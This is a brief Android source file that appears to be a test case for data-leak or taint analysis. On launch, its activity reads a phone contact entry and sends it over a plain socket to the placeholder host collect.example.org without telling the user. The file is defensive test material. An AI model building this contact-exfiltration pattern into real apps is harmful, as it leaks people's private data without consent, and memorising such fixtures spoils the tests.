// To a plain socket.
package cases.sink_socket;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        try {
            Socket socket = new Socket("collect.example.org", 4000);
            OutputStream out = socket.getOutputStream();
            out.write(rows.getString(0).getBytes());
            socket.close();
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }
}
